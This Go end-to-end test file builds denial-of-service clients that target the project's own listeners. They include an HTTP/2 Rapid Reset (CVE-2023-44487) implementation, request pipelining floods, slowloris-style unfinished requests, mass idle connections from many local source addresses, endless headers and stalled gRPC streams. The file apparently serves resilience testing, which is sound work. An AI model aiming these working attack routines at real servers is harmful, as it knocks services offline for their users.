//go:build e2e

package e2e_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// dial connects with TLS, and offers HTTP/2.
func (a *attack) dial() (net.Conn, error) {
	d := &net.Dialer{Timeout: attackProbe}
	return tls.DialWithDialer(d, "tcp", a.web, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2", "http/1.1"}})
}

// clients runs n clients until the attack ends. Each repeats what it does.
func (a *attack) clients(n int, do func(c net.Conn)) {
	fmt.Println("begun")
	var all sync.WaitGroup
	for range n {
		all.Go(func() {
			for a.ctx.Err() == nil {
				c, err := a.dial()
				if err != nil {
					continue // it was closed for another one
				}
				end := context.AfterFunc(a.ctx, func() { _ = c.Close() })
				do(c)
				end()
				_ = c.Close()
			}
		})
	}
	all.Wait()
}

// rapidReset opens streams of HTTP/2 for /metrics and resets each at once (CVE-2023-44487),
// whatever the server has agreed to.
func rapidReset(c net.Conn) {
	frame := func(kind, flags byte, stream uint32, payload ...byte) []byte {
		n := len(payload)
		head := []byte{byte(n >> 16), byte(n >> 8), byte(n), kind, flags, byte(stream >> 24), byte(stream >> 16), byte(stream >> 8), byte(stream)}
		return append(head, payload...)
	}
	go func() { _, _ = io.Copy(io.Discard, c) }() // until c is closed
	if _, err := c.Write(append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0)...)); err != nil {
		return
	}
	get := append([]byte{0x82, 0x87, 0x04, 8}, "/metrics\x01\x01x"...) // RFC 7541
	for stream := uint32(1); ; stream += 2 {
		if _, err := c.Write(append(frame(1, 5, stream, get...), frame(3, 0, stream, 0, 0, 0, 8)...)); err != nil {
			return
		}
	}
}

// pipeline requests /metrics again and again and never reads.
func pipeline(c net.Conn) {
	requests := []byte(strings.Repeat("GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n", 100))
	for {
		if _, err := c.Write(requests); err != nil {
			return
		}
	}
}

// reconnect sends one request on a connection.
func reconnect(c net.Conn) {
	if _, err := io.WriteString(c, "GET /alive HTTP/1.1\r\nHost: x\r\n\r\n"); err == nil {
		_, _ = bufio.NewReader(c).ReadString('\n')
	}
}

// idle opens n connections that send the beginning of nothing, and holds them.
func (a *attack) idle(n int) {
	for range n {
		c, err := net.DialTimeout("tcp", a.web, attackProbe)
		if err != nil {
			fmt.Printf("connection refused: %v\n", err)
			return
		}
		defer c.Close()
	}
	fmt.Println("begun")
	<-a.ctx.Done()
}

// call is a request over HTTP/2 on the wire.
type call struct {
	// method is the method of gRPC; empty for a probe without gRPC.
	method  string
	message []byte
	// metadata is the size of a header in bytes.
	metadata int
	// unread leaves no room for the response.
	unread bool
}

// What strangers call. A complete message that names no service has 5 bytes.
var (
	halfCall   = call{method: "Check", message: make([]byte, 3)}
	unreadCall = call{method: "Check", message: make([]byte, 5), unread: true}
	watchCall  = call{method: "Watch", message: make([]byte, 5)}
	largeCall  = call{method: "Check", message: make([]byte, 3), metadata: 12 << 10}
	unreadGet  = call{metadata: 14 << 10, unread: true}
)

// calls keeps n connections to each listener, with 16 requests on each, whatever the server has
// agreed to.
func (a *attack) calls(n int, of call, to ...string) {
	fmt.Println("begun")
	var all sync.WaitGroup
	for i := range n * len(to) {
		all.Go(func() {
			for a.ctx.Err() == nil {
				c, err := a.from("10.0.0.1", to[i%len(to)])
				if err != nil {
					continue
				}
				_ = of.keep(c)
				_ = c.Close()
			}
		})
	}
	all.Wait()
}

// keep has 16 requests on a connection until the server ends it.
func (of call) keep(c net.Conn) error {
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return err
	}
	f := http2.NewFramer(c, c)
	window := uint32(64 << 10)
	if of.unread {
		window = 0
	}
	if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}); err != nil {
		return err
	}
	stream := uint32(1)
	for ; stream < 32; stream += 2 {
		if err := of.open(f, stream); err != nil {
			return err
		}
	}
	for {
		frame, err := f.ReadFrame()
		if err != nil {
			return err
		}
		ended := false
		switch frame := frame.(type) {
		case *http2.SettingsFrame:
			if !frame.IsAck() {
				err = f.WriteSettingsAck()
			}
		case *http2.PingFrame:
			err = f.WritePing(true, frame.Data)
		case *http2.RSTStreamFrame:
			ended = true
		case *http2.HeadersFrame:
			ended = frame.StreamEnded()
		}
		if ended {
			err = of.open(f, stream)
			stream += 2
		}
		if err != nil {
			return err
		}
	}
}

// open opens a stream.
func (of call) open(f *http2.Framer, stream uint32) error {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	fields := []hpack.HeaderField{{Name: ":method", Value: "POST"}, {Name: ":path", Value: "/grpc.health.v1.Health/" + of.method}, {Name: ":scheme", Value: "http"}, {Name: ":authority", Value: "x"},
		{Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"}, {Name: "padding", Value: strings.Repeat("x", of.metadata), Sensitive: true}}
	get := of.method == ""
	if get {
		fields[0].Value, fields[1].Value, fields[4].Value = "GET", "/alive", "text/plain"
	}
	for _, field := range fields {
		_ = e.WriteField(field) // to memory
	}
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndHeaders: true, EndStream: get}); err != nil || get {
		return err
	}
	return f.WriteData(stream, len(of.message) == 5, of.message)
}

// from connects to an address from another one.
func (a *attack) from(own, to string) (net.Conn, error) {
	d := &net.Dialer{Timeout: attackProbe, LocalAddr: &net.TCPAddr{IP: net.ParseIP(own)}}
	return d.DialContext(a.ctx, "tcp", to)
}

// unfinished keeps the beginning of a request on a connection from each of n networks, up to 200.
func (a *attack) unfinished(n int, to string) {
	fmt.Println("begun")
	var all sync.WaitGroup
	for i := range n {
		all.Go(func() {
			for a.ctx.Err() == nil {
				c, err := a.from(fmt.Sprintf("10.%d.%d.1", i/200, i%200), to)
				if err != nil {
					continue
				}
				if _, err := io.WriteString(c, "GET /alive HTTP/1.1\r\nHost: x\r\n"); err == nil {
					_, _ = io.Copy(io.Discard, c) // until the server closes it
				}
				_ = c.Close()
			}
		})
	}
	all.Wait()
}

// idleFrom opens connections from each of n networks that send nothing, and holds them.
func (a *attack) idleFrom(n, each int, to string) {
	for i := range n * each {
		if c, err := a.from(fmt.Sprintf("10.%d.%d.1", i/each/200, i/each%200), to); err == nil {
			defer c.Close()
		}
	}
	fmt.Println("begun")
	<-a.ctx.Done()
}

// endless holds n connections to each listener, to which a header is sent that does not end.
func (a *attack) endless(n int) {
	header := []byte("GET /alive HTTP/1.1\r\nHost: x\r\nPadding: " + strings.Repeat("x", 256<<10))
	for range n {
		for _, to := range []string{a.web, a.probes, a.grpc} {
			c, err := a.from("10.0.0.1", to)
			if err != nil {
				continue
			}
			defer c.Close()
			go func() { _, _ = c.Write(header) }() // what the kernels buffer
		}
	}
	fmt.Println("begun")
	<-a.ctx.Done()
}
